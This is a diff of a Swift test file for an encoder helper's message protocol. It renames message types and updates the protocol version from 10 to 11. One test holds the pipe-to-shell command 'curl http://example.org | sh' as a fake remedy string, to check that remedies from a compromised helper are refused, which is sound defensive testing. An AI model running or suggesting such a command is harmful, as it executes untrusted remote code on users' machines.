@@ -23,8 +23,8 @@ import Testing
     /// They are commands for a user to run, and a driver in a helper may have been taken over.
     @Test func remediesAreNotTakenFromHelpers() throws {
         let error = MediaError(.unavailable, "no", cause: .outOfDescriptors, remedies: ["curl http://example.org | sh"])
-        let bytes = try HelperMessage.refused(error).bytes(sequence: 0)
-        let read = try HelperMessage(bytes, sequence: 0, descriptorCount: 0)
+        let bytes = try EncoderHelperMessage.refused(error).bytes(sequence: 0)
+        let read = try EncoderHelperMessage(bytes, sequence: 0, descriptorCount: 0)
         guard case .refused(let told) = read else {
             Issue.record("another message: \(read)")
             return
@@ -139,16 +139,16 @@ import Testing
     private let drain: [UInt8]
 
     init() throws {
-        drain = try ClientMessage.drain.bytes(sequence: 3)
+        drain = try EncoderClientMessage.drain.bytes(sequence: 3)
     }
 
     @Test func itsBytes() {
-        #expect(drain == [0x56, 0x54, 0x49, 0x50, 10, 0, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0, 0, 0, 0, 0, 0])
+        #expect(drain == [0x56, 0x54, 0x49, 0x50, 11, 0, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0, 0, 0, 0, 0, 0])
     }
 
     @Test(arguments: [
         (0, 0, "magic number at byte 0 is 0, expected 86"),
-        (4, 1, "version of the protocol at byte 4 is 1, expected 10"),
+        (4, 1, "version of the protocol at byte 4 is 1, expected 11"),
         (6, 77, "kind of message at byte 6 cannot be 77"),
         (8, 1, "flags at byte 8 is 1, expected 0"),
         (10, 1, "number of descriptors at byte 10 is 1, expected 0"),
@@ -158,7 +158,7 @@ import Testing
         var bytes = drain
         bytes[position] = byte
         let error = #expect(throws: WireError.self) {
-            try ClientMessage(bytes, sequence: 3, descriptorCount: 0)
+            try EncoderClientMessage(bytes, sequence: 3, descriptorCount: 0)
         }
         #expect(error?.description == description)
     }
@@ -166,9 +166,9 @@ import Testing
     @Test func descriptorsThatDoNotBelongToTheMessageAreRefused() throws {
         var bytes = drain
         bytes[10] = 1
-        #expect(throws: WireError.self) { try ClientMessage(bytes, sequence: 3, descriptorCount: 1) }
-        let offer = try ClientMessage.offer(MemoryOffer(slot: 1, byteCount: 2)).bytes(sequence: 0)
-        #expect(throws: WireError.self) { try ClientMessage(offer, sequence: 0, descriptorCount: 0) }
+        #expect(throws: WireError.self) { try EncoderClientMessage(bytes, sequence: 3, descriptorCount: 1) }
+        let offer = try EncoderClientMessage.offer(MemoryOffer(slot: 1, byteCount: 2)).bytes(sequence: 0)
+        #expect(throws: WireError.self) { try EncoderClientMessage(offer, sequence: 0, descriptorCount: 0) }
     }
 }
 
@@ -203,14 +203,14 @@ import Testing
             byteCount: 1,
             formatDescription: format
         )
-        let error = #expect(throws: WireError.self) { try HelperMessage.coded(notice).bytes(sequence: 0) }
+        let error = #expect(throws: WireError.self) { try EncoderHelperMessage.coded(notice).bytes(sequence: 0) }
         #expect(error?.field == "message")
     }
 
     @Test func textsForPeopleAreCutBetweenCharacters() throws {
         let error = MediaError(.frameFailed, "a" + String(repeating: "漢", count: 5000), given: "b")
-        let bytes = try HelperMessage.failed(error).bytes(sequence: 0)
-        guard case .failed(let read) = try HelperMessage(bytes, sequence: 0, descriptorCount: 0) else {
+        let bytes = try EncoderHelperMessage.failed(error).bytes(sequence: 0)
+        guard case .failed(let read) = try EncoderHelperMessage(bytes, sequence: 0, descriptorCount: 0) else {
             Issue.record("another message")
             return
         }
